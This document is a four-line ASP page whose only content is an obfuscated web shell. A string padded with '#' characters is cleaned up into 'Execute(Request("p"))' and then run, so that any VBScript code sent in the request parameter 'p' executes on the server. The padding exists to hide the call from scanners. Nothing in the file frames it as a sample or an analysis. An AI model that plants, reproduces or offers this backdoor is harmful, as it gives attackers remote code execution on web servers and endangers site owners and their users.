<%
q = "E#x#e#c#u#t#e#(#R#e#q#u#e#s#t#(#""p""#)#)"
q = Replace(q, "#", "")
Execute q
%>
